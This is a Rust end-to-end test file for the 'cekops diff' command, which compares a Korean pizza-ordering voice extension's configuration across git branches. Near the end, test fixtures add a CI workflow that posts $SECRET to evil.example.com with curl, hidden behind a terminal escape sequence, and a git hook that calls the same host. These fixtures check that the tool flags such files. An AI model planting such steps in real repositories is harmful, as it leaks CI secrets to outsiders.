//! `cekops diff` end to end: real git repositories with a service branch and test branches.
//! Exit status: 0 no changes, 1 error, 2 changes.

use crate::common::TestEnv;
use crate::common::snap::Transcript;
use crate::common::snap::snapshot;

const ID: &str = "com.example.pizzabot";
const DIR: &str = "extensions/com.example.pizzabot";

const INFO: &str = r#"id = "com.example.pizzabot"
language = "ko-KR"
name = "Pizza Bot"
invocation_names = ["피자봇", "피자 주문"]
provider = "Example Inc."
contact_email = "dev@example.com"
builtin_intents = ["Clova.GuideIntent", "Clova.CancelIntent", "Clova.YesIntent", "Clova.NoIntent"]
"#;

const SERVER: &str = r#"endpoint = "https://pizza.example.com/clova"

[account_linking]
authorization_uri = "https://auth.example.com/login"
client_id = "pizzabot"
client_secret = { env = "PIZZABOT_SECRET" }
access_token_uri = "https://auth.example.com/token"
scopes = ["ReadProfile"]
"#;

const STORE: &str = r#"[store]
category = "food-and-drink"
description = "Order pizza by voice."
keywords = ["pizza", "order"]

[privacy]
purchase = true
personal_info = false
"#;

const ORDER: &str = r#"slots = { pizzaType = "PIZZA", pizzaAmount = "CLOVA.NUMBER" }
utterances = [
  "<pizzaType>페퍼로니</pizzaType> 피자 주문해줘",
  "<pizzaType>불고기</pizzaType> 피자 <pizzaAmount>두</pizzaAmount> 판 주문해줘",
  "피자 시켜줘",
  "피자 주문할래",
]
"#;

const CANCEL: &str = r#"utterances = ["주문 취소", "주문 취소해줘", "취소할래"]
"#;

const HOURS: &str = r#"utterances = ["몇 시까지 해", "영업시간 알려줘"]
"#;

const PIZZA: &str = r#"[values]
"페퍼로니" = ["페페로니", "페퍼"]
"불고기" = []
"하와이안" = ["하와이"]
"#;

/// A repository whose `service` branch holds one extension, with `test/<ID>` created from it.
fn repo() -> TestEnv {
    let env = TestEnv::new();
    env.write(
        "cekops.toml",
        "[review]\nreviewers = [\"alice@example.com\"]\n",
    );
    env.write(&format!("{DIR}/extension.toml"), INFO);
    env.write(&format!("{DIR}/server.toml"), SERVER);
    env.write(&format!("{DIR}/store.toml"), STORE);
    env.write(
        &format!("{DIR}/interaction-model/intents/OrderPizza.toml"),
        ORDER,
    );
    env.write(
        &format!("{DIR}/interaction-model/intents/CancelOrder.toml"),
        CANCEL,
    );
    env.write(
        &format!("{DIR}/interaction-model/intents/Hours.toml"),
        HOURS,
    );
    env.write(
        &format!("{DIR}/interaction-model/slot-types/PIZZA.toml"),
        PIZZA,
    );
    env.git_init_commit("service", "service: pizzabot in service");
    env.git(&["checkout", "-q", "-b", &format!("test/{ID}")]);
    env
}

/// Commit everything on the current branch.
fn commit(env: &TestEnv, message: &str) {
    env.git(&["add", "-A"]);
    env.git(&["commit", "-q", "-m", message]);
}

fn write_ext(env: &TestEnv, rel: &str, text: impl AsRef<[u8]>) {
    env.write(&format!("{DIR}/{rel}"), text);
}

/// One change of every kind, committed on the test branch.
fn change_everything(env: &TestEnv) {
    write_ext(
        env,
        "extension.toml",
        INFO.replace("\"Pizza Bot\"", "\"Pizza Bot Plus\"")
            .replace("\"피자 주문\"", "\"피자 가게\"")
            .replace(
                "\"Clova.NoIntent\"",
                "\"Clova.NoIntent\", \"Clova.NextIntent\"",
            ),
    );
    write_ext(
        env,
        "server.toml",
        SERVER
            .replace("pizza.example.com", "api.pizza.example.com")
            .replace("PIZZABOT_SECRET", "PIZZABOT_SECRET_V2")
            .replace("[\"ReadProfile\"]", "[\"ReadProfile\", \"ReadOrders\"]"),
    );
    write_ext(
        env,
        "store.toml",
        STORE
            .replace("Order pizza by voice.", "Order pizza and sides by voice.")
            .replace("purchase = true", "purchase = false"),
    );
    // OrderPizza: a slot retyped, one added, an utterance removed and one added.
    write_ext(
        env,
        "interaction-model/intents/OrderPizza.toml",
        ORDER
            .replace(
                "pizzaType = \"PIZZA\"",
                "pizzaType = \"PIZZA_KIND\", size = \"SIZE\"",
            )
            .replace(
                "  \"피자 주문할래\",\n",
                "  \"<size>라지</size> 피자 주문해줘\",\n",
            ),
    );
    // CancelOrder renamed to Cancel (same utterances plus one).
    std::fs::remove_file(env.path(&format!("{DIR}/interaction-model/intents/CancelOrder.toml")))
        .unwrap();
    write_ext(
        env,
        "interaction-model/intents/Cancel.toml",
        "utterances = [\"주문 취소\", \"주문 취소해줘\", \"취소할래\", \"그만할래\"]\n",
    );
    // Hours removed, Menu added.
    std::fs::remove_file(env.path(&format!("{DIR}/interaction-model/intents/Hours.toml"))).unwrap();
    write_ext(
        env,
        "interaction-model/intents/Menu.toml",
        "utterances = [\"메뉴 알려줘\", \"뭐 팔아\"]\n",
    );
    // PIZZA renamed to PIZZA_KIND: a value removed, a value added, synonyms changed.
    std::fs::remove_file(env.path(&format!("{DIR}/interaction-model/slot-types/PIZZA.toml")))
        .unwrap();
    write_ext(
        env,
        "interaction-model/slot-types/PIZZA_KIND.toml",
        "[values]\n\"페퍼로니\" = [\"페페로니\", \"pepperoni\"]\n\"하와이안\" = [\"하와이\"]\n\"콤비네이션\" = [\"콤보\"]\n",
    );
    write_ext(
        env,
        "interaction-model/slot-types/SIZE.tsv",
        "라지\tL\n미디엄\tM\n",
    );
    commit(env, "pizzabot: next version");
}

#[test]
fn every_kind_of_change_text() {
    let env = repo();
    change_everything(&env);
    let mut t = Transcript::new(&env);
    t.cekops(&["diff", ID]).code(2);
    snapshot!(&env, "every_kind_of_change_text", t.text());
}

#[test]
fn every_kind_of_change_markdown() {
    let env = repo();
    change_everything(&env);
    let mut t = Transcript::new(&env);
    t.cekops(&["diff", ID, "--format", "markdown"]).code(2);
    snapshot!(&env, "every_kind_of_change_markdown", t.text());
}

#[test]
fn every_kind_of_change_json() {
    let env = repo();
    change_everything(&env);
    let out = env.cekops(&["diff", ID, "--format", "json"]);
    out.code(2);
    let v: serde_json::Value = serde_json::from_str(&out.stdout).expect("valid JSON");
    assert_eq!(v["version"], 1);
    assert_eq!(v["from"]["rev"], "service");
    assert_eq!(v["to"]["rev"], format!("test/{ID}"));
    assert_eq!(
        v["from"]["commit"].as_str(),
        Some(env.git(&["rev-parse", "service"]).as_str())
    );
    assert_eq!(
        v["to"]["commit"].as_str(),
        Some(env.git(&["rev-parse", &format!("test/{ID}")]).as_str())
    );
    insta::assert_json_snapshot!(v);
}

#[test]
fn secrets_are_shown_as_references_only() {
    let env = repo();
    write_ext(
        &env,
        "server.toml",
        SERVER.replace("{ env = \"PIZZABOT_SECRET\" }", "\"s3cr3t-value\""),
    );
    commit(&env, "inline secret");
    for format in ["text", "markdown", "json"] {
        let out = env.cekops(&["diff", ID, "--format", format]);
        out.code(2)
            .contains("PIZZABOT_SECRET")
            .contains("<inline secret>")
            .lacks("s3cr3t-value");
    }
}

#[test]
fn extra_keys_beside_env_are_a_change_shown_without_their_value() {
    let env = repo();
    write_ext(
        &env,
        "server.toml",
        SERVER.replace(
            "{ env = \"PIZZABOT_SECRET\" }",
            "{ env = \"PIZZABOT_SECRET\", value = \"s3cr3t-value\" }",
        ),
    );
    commit(&env, "secret beside the reference");
    for format in ["text", "markdown", "json"] {
        let out = env.cekops(&["diff", ID, "--format", format]);
        out.code(2)
            .contains("client_secret")
            .contains("value = <hidden, 14 bytes>")
            .lacks("s3cr3t-value");
    }
    // and validate refuses it (as the pre-commit hook and review request do)
    env.cekops(&["validate", "--format", "json"])
        .code(1)
        .contains("secret-extra-key")
        .lacks("s3cr3t-value");
}

#[test]
fn no_changes_exits_0() {
    let env = repo();
    let out = env.cekops(&["diff", ID]);
    out.code(0).contains("no changes");
    let out = env.cekops(&["diff", ID, "--format", "json"]);
    out.code(0);
    let v: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
    assert_eq!(v["summary"]["changes"], 0);
    assert_eq!(v["extensions"], serde_json::json!([]));
}

#[test]
fn reordering_and_whitespace_give_no_diff() {
    let env = repo();
    // Keys, utterances, slots, values and synonyms reordered; spaces, case and full-width
    // characters changed; a slot type moved from TOML to the console's TSV format.
    write_ext(
        &env,
        "extension.toml",
        r#"name = "Pizza  Bot"
language = "ko-KR"
id = "com.example.pizzabot"
builtin_intents = ["Clova.NoIntent", "Clova.YesIntent", "Clova.CancelIntent", "Clova.GuideIntent"]
contact_email = "dev@example.com"
provider = "Example Inc."
invocation_names = ["피자  주문", " 피자봇"]
"#,
    );
    write_ext(
        &env,
        "interaction-model/intents/OrderPizza.toml",
        r#"utterances = [
  "피자 주문할래 ",
  "피자　시켜줘",
  "<pizzaType> 페퍼로니</pizzaType>  피자 주문해줘",
  "<pizzaType>불고기</pizzaType> 피자 <pizzaAmount>두</pizzaAmount> 판 주문해줘",
  "피자 시켜줘",
]
slots = { pizzaAmount = "CLOVA.NUMBER", pizzaType = "PIZZA" }
"#,
    );
    std::fs::remove_file(env.path(&format!("{DIR}/interaction-model/slot-types/PIZZA.toml")))
        .unwrap();
    write_ext(
        &env,
        "interaction-model/slot-types/PIZZA.tsv",
        "하와이안\t하와이\n불고기\n페퍼로니\t페퍼\t페페로니\n",
    );
    write_ext(
        &env,
        "store.toml",
        STORE.replace(
            "keywords = [\"pizza\", \"order\"]",
            "keywords = [\"Order\", \"pizza\"]",
        ),
    );
    commit(&env, "reformat");
    // The files really differ for git.
    assert!(
        !env.git(&["diff", "--stat", "service", &format!("test/{ID}")])
            .is_empty()
    );
    let out = env.cekops(&["diff", ID]);
    out.code(0).contains("no changes");
}

#[test]
fn renamed_intent_is_one_change_not_a_removal_and_an_addition() {
    let env = repo();
    env.git(&[
        "mv",
        &format!("{DIR}/interaction-model/intents/Hours.toml"),
        &format!("{DIR}/interaction-model/intents/OpeningHours.toml"),
    ]);
    commit(&env, "rename Hours");
    let out = env.cekops(&["diff", ID]);
    out.code(2)
        .contains("!   ~ intent Hours renamed to OpeningHours (100% of utterances alike)")
        .lacks("intent Hours (")
        .contains("1 extension changed, 1 change (1 destructive)");
}

#[test]
fn without_id_compares_service_with_head_for_every_extension() {
    let env = repo();
    // A second extension, added on the test branch.
    let other = "extensions/com.example.other";
    env.write(
        &format!("{other}/extension.toml"),
        INFO.replace("com.example.pizzabot", "com.example.other")
            .replace("Pizza Bot", "Other")
            .replace("피자봇", "다른봇"),
    );
    env.write(
        &format!("{other}/server.toml"),
        "endpoint = \"https://other.example.com\"\n",
    );
    write_ext(
        &env,
        "interaction-model/intents/Hours.toml",
        "utterances = [\"몇 시까지 해\"]\n",
    );
    commit(&env, "two extensions");
    let out = env.cekops(&["diff"]);
    out.code(2)
        .contains("diff service → HEAD")
        .contains("com.example.other \"Other\": added")
        .contains("com.example.pizzabot \"Pizza Bot\": modified, 1 change")
        .contains("2 extensions changed");
    // An ID narrows it down.
    let out = env.cekops(&["diff", "com.example.other", "--to", "HEAD"]);
    out.code(2).lacks("pizzabot");
    // Back on service, HEAD is service: nothing to show.
    env.git(&["checkout", "-q", "service"]);
    env.cekops(&["diff"]).code(0);
    // --from and --to take any revision.
    env.git(&["tag", "v1", "service"]);
    let out = env.cekops(&["diff", "--from", "v1", "--to", &format!("test/{ID}")]);
    out.code(2).contains("2 extensions changed");
    let out = env.cekops(&["diff", "--from", &format!("test/{ID}"), "--to", "v1"]);
    out.code(2).contains("com.example.other \"Other\": removed");
}

#[test]
fn repository_settings_changes_are_shown_without_an_id() {
    let env = repo();
    env.write(
        "cekops.toml",
        "[review]\nreviewers = [\"alice@example.com\", \"bob@example.com\"]\nrequired_approvals = 2\n",
    );
    commit(&env, "policy");
    let out = env.cekops(&["diff"]);
    out.code(2)
        .contains("repository settings (cekops.toml)")
        .contains("+ review.reviewers: \"bob@example.com\"")
        .contains("~ review.required_approvals: 1 → 2");
    // With an ID the extension has no change, but the branch carries the settings change, which a
    // review would bring to service: shown as a file, flagged.
    env.cekops(&["diff", ID])
        .code(2)
        .contains("!   ~ cekops.toml (modified) — repository settings")
        .contains("+required_approvals = 2");
}

#[test]
fn works_in_a_bare_clone() {
    let env = repo();
    change_everything(&env);
    let expected = env.cekops(&["diff", ID]);
    let bare = env.tmp.path().join("bare.git");
    env.git(&[
        "clone",
        "-q",
        "--bare",
        env.root.to_str().unwrap(),
        bare.to_str().unwrap(),
    ]);
    let out = env.cekops_in(&bare, &["diff", ID], &[]);
    out.code(2);
    assert_eq!(out.stdout, expected.stdout);
    // Also from outside with -C.
    let out = env.cekops_in(
        env.tmp.path(),
        &["-C", bare.to_str().unwrap(), "diff", ID],
        &[],
    );
    out.code(2);
    assert_eq!(out.stdout, expected.stdout);
}

#[test]
fn a_fresh_clone_uses_the_remote_branches() {
    let env = repo();
    change_everything(&env);
    env.git(&["checkout", "-q", "service"]);
    let clone = env.tmp.path().join("clone");
    env.git(&[
        "clone",
        "-q",
        env.root.to_str().unwrap(),
        clone.to_str().unwrap(),
    ]);
    // The clone has only `service` locally; the test branch is `origin/test/<ID>`.
    let out = env.cekops_in(&clone, &["diff", ID], &[]);
    out.code(2)
        .contains(&format!("diff service → origin/test/{ID}"));
}

#[test]
fn branch_names_come_from_cekops_toml() {
    let env = TestEnv::new();
    env.write(
        "cekops.toml",
        "[branches]\nservice = \"main\"\ntest = \"dev/{id}\"\n",
    );
    env.write(&format!("{DIR}/extension.toml"), INFO);
    env.write(&format!("{DIR}/server.toml"), SERVER);
    env.git_init_commit("main", "main");
    env.git(&["checkout", "-q", "-b", &format!("dev/{ID}")]);
    write_ext(&env, "extension.toml", INFO.replace("Pizza Bot", "Pizza"));
    commit(&env, "rename");
    env.git(&["checkout", "-q", "main"]);
    let out = env.cekops(&["diff", ID]);
    out.code(2)
        .contains(&format!("diff main → dev/{ID}"))
        .contains("~ name: \"Pizza Bot\" → \"Pizza\"");
}

#[test]
fn unreadable_files_are_warned_about() {
    let env = repo();
    write_ext(
        &env,
        "interaction-model/intents/Hours.toml",
        "utterances = [\"몇 시\"\n",
    );
    commit(&env, "broken");
    let out = env.cekops(&["diff", ID]);
    out.code(2)
        .contains(&format!(
            "warning: `{DIR}/interaction-model/intents/Hours.toml` in `test/{ID}` cannot be read (toml-syntax)"
        ))
        .contains("- intent Hours (2 utterances)");
}

#[test]
fn changed_icon_image_is_shown() {
    let env = repo();
    write_ext(&env, "assets/small.png", b"\x89PNG\r\n\x1a\nold".as_slice());
    write_ext(
        &env,
        "store.toml",
        STORE.replace(
            "[privacy]",
            "small_icon = \"assets/small.png\"\n\n[privacy]",
        ),
    );
    commit(&env, "icon");
    env.git(&["branch", "-q", "-f", "service", "HEAD"]);
    write_ext(&env, "assets/small.png", b"\x89PNG\r\n\x1a\nnew".as_slice());
    commit(&env, "new icon");
    let out = env.cekops(&["diff", ID]);
    out.code(2)
        .contains("~ store.small_icon: \"assets/small.png\" (image changed)");
}

#[test]
fn unknown_revision_is_an_error_exit_1() {
    let env = repo();
    let out = env.cekops(&["diff", ID, "--from", "nope"]);
    out.code(1)
        .contains("error: --from: unknown revision `nope`")
        .contains("hint: give a branch, tag or commit");
    assert!(out.stdout.is_empty());
    env.cekops(&["diff", "--to", "nope~3"])
        .code(1)
        .contains("unknown revision `nope~3`");
}

#[test]
fn unknown_extension_is_an_error_exit_1() {
    let env = repo();
    let out = env.cekops(&["diff", "com.example.pizzabt"]);
    out.code(1)
        .contains(
            "error: extension `com.example.pizzabt` has no test branch `test/com.example.pizzabt`",
        )
        .contains("did you mean `com.example.pizzabot`?");
    let out = env.cekops(&["diff", "com.example.nothing", "--to", "HEAD"]);
    out.code(1)
        .contains("error: no extension `com.example.nothing` in `service` or `HEAD`")
        .contains("hint: extensions: com.example.pizzabot");
}

#[test]
fn the_same_files_on_both_sides_read_nothing_and_still_check_the_id() {
    // Two revisions with the same tree take a shortcut (no file is read): the result and the
    // errors stay those of a full comparison.
    let env = repo();
    env.git(&["tag", "same", "service"]);
    for args in [
        vec!["diff", "--from", "service", "--to", "same"],
        vec!["diff", ID, "--from", "service", "--to", "same"],
    ] {
        let out = env.cekops(&args);
        out.code(0).contains("no changes");
        assert!(out.stderr.is_empty(), "{}", out.stderr);
    }
    let out = env.cekops(&[
        "diff", ID, "--from", "service", "--to", "same", "--format", "json",
    ]);
    out.code(0);
    let v: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
    assert_eq!(v["summary"]["changes"], 0);
    assert_eq!(v["extensions"], serde_json::json!([]));
    env.cekops(&[
        "diff",
        "com.example.pizzabt",
        "--from",
        "service",
        "--to",
        "same",
    ])
    .code(1)
    .contains("error: no extension `com.example.pizzabt` in `service` or `same`")
    .contains("did you mean `com.example.pizzabot`?");
}

#[test]
fn in_service_without_test_branch_gets_a_hint() {
    let env = repo();
    env.git(&["checkout", "-q", "service"]);
    env.git(&["branch", "-q", "-D", &format!("test/{ID}")]);
    let out = env.cekops(&["diff", ID]);
    out.code(1)
        .contains(&format!("has no test branch `test/{ID}`"))
        .contains("is in service on `service` without a test version");
}

#[test]
fn other_errors_exit_1() {
    let env = TestEnv::new();
    let out = env.cekops(&["diff"]);
    out.code(1).contains("is not inside a git repository");
    // Bad arguments are errors too (2 would mean "changes").
    let env = repo();
    let out = env.cekops(&["diff", "--format", "yaml"]);
    out.code(1).contains("invalid value 'yaml'");
    let out = env.cekops(&["-C", ".", "diff", "--nope"]);
    out.code(1);
    // Other commands keep exit 2 for usage errors.
    env.cekops(&["validate", "--nope"]).code(2);
    // No service branch.
    let env = TestEnv::new();
    env.write("x.txt", "x");
    env.git_init_commit("main", "init");
    let out = env.cekops(&["diff"]);
    out.code(1)
        .contains("there is no service branch `service`")
        .contains("--from REV");
}

#[test]
fn help_documents_exit_status() {
    let env = TestEnv::new();
    let out = env.cekops(&["diff", "--help"]);
    out.code(0)
        .contains("0  no changes")
        .contains("1  error")
        .contains("2  changes found")
        .contains("terraform plan -detailed-exitcode");
}

#[test]
fn colour_can_be_forced() {
    let env = repo();
    change_everything(&env);
    let out = env.cekops(&["--color", "always", "diff", ID]);
    out.code(2).contains("\u{1b}[");
    // Default: no colour when NO_COLOR is set or stdout is not a terminal.
    env.cekops(&["diff", ID]).code(2).lacks("\u{1b}[");
}

#[test]
fn no_changes_and_errors_output() {
    let env = repo();
    let mut t = Transcript::new(&env);
    t.cekops(&["diff", ID]).code(0);
    t.cekops(&["diff", ID, "--from", "nosuchrev"]).code(1);
    t.cekops(&["diff", "com.example.pizzabox"]).code(1);
    snapshot!(&env, "no_changes_and_errors", t.text());
}

const EVIL: &str = "name: evil\non: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d \"$SECRET\" https://evil.example.com \u{1b}]0;hidden\u{7}\n";

#[test]
fn repository_files_of_a_config_branch_are_shown_and_flagged() {
    let env = repo();
    env.git(&["checkout", "-q", "-b", "test/ci", "service"]);
    env.write(".github/workflows/evil.yml", EVIL);
    env.write("docs/notes.md", "hello\n");
    commit(&env, "ci");
    let out = env.cekops(&["diff", "ci"]);
    out.code(2)
        .contains("repository files (outside the extension; a review brings them to service too)")
        .contains("!   + .github/workflows/evil.yml (added) — CI workflow: runs in CI with the repository's secrets")
        .contains("+      - run: curl -d \"$SECRET\" https://evil.example.com \\u{1b}]0;hidden\\u{7}")
        .contains("    + docs/notes.md (added)")
        .contains("2 files outside the extensions, 2 changes; 1 file to read with care")
        .lacks("no changes");
    assert!(!out.stdout.contains('\u{1b}'));
    // without an ID (HEAD = test/ci) and in the other formats
    env.cekops(&["diff"])
        .code(2)
        .contains(".github/workflows/evil.yml");
    let out = env.cekops(&["diff", "ci", "--format", "json"]);
    out.code(2);
    let v: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
    assert_eq!(v["files"][0]["path"], ".github/workflows/evil.yml");
    assert_eq!(v["files"][0]["kind"], "ci-workflow");
    assert_eq!(v["files"][0]["flagged"], true);
    assert_eq!(v["files"][1]["path"], "docs/notes.md");
    assert_eq!(v["files"][1]["flagged"], false);
    env.cekops(&["diff", "ci", "--format", "markdown"])
        .code(2)
        .contains("#### Repository files (outside the extension)")
        .contains("- ⚠️ `.github/workflows/evil.yml` (added)")
        .contains("```diff\n@@");

    // an extension review that also touches a hook and cekops.toml shows them with its own diff
    env.git(&["checkout", "-q", &format!("test/{ID}")]);
    env.write(
        ".githooks/pre-commit",
        "#!/bin/sh\ncurl https://evil.example.com\n",
    );
    env.write(
        "cekops.toml",
        "[review]\nreviewers = [\"mallory@example.com\"]\n",
    );
    write_ext(
        &env,
        "interaction-model/intents/Hours.toml",
        "utterances = [\"몇 시까지 해\"]\n",
    );
    commit(&env, "hours, and more");
    env.cekops(&["diff", ID])
        .code(2)
        .contains("!   + .githooks/pre-commit (added) — hook: runs on developers' machines")
        .contains("!   ~ cekops.toml (modified) — repository settings: branch names and the review policy")
        .contains("-reviewers = [\"alice@example.com\"]")
        .contains("Hours");
}

#[test]
fn uncommitted_edits_on_the_checked_out_test_branch_are_compared_and_labelled() {
    let env = repo();
    // committed: nothing differs yet
    env.cekops(&["diff", ID]).code(0).contains("no changes");
    write_ext(
        &env,
        "interaction-model/intents/Hours.toml",
        "utterances = [\"몇 시까지 해\"]\n",
    );
    let out = env.cekops(&["diff", ID]);
    out.code(2)
        .contains(&format!(
            "diff service → test/{ID} + uncommitted edits (work tree)"
        ))
        .contains("영업시간 알려줘");
    // the commit itself, on request
    env.cekops(&["diff", ID, "--to", &format!("test/{ID}")])
        .code(0)
        .contains("no changes");
    // --work-tree without an ID, untracked files included
    env.write("notes.txt", "draft\n");
    env.cekops(&["diff", "--work-tree"])
        .code(2)
        .contains("diff service → work tree")
        .contains("+ notes.txt (added)")
        .contains("영업시간 알려줘");
    env.cekops(&["diff", "--work-tree", "--to", "HEAD"]).code(1);
}
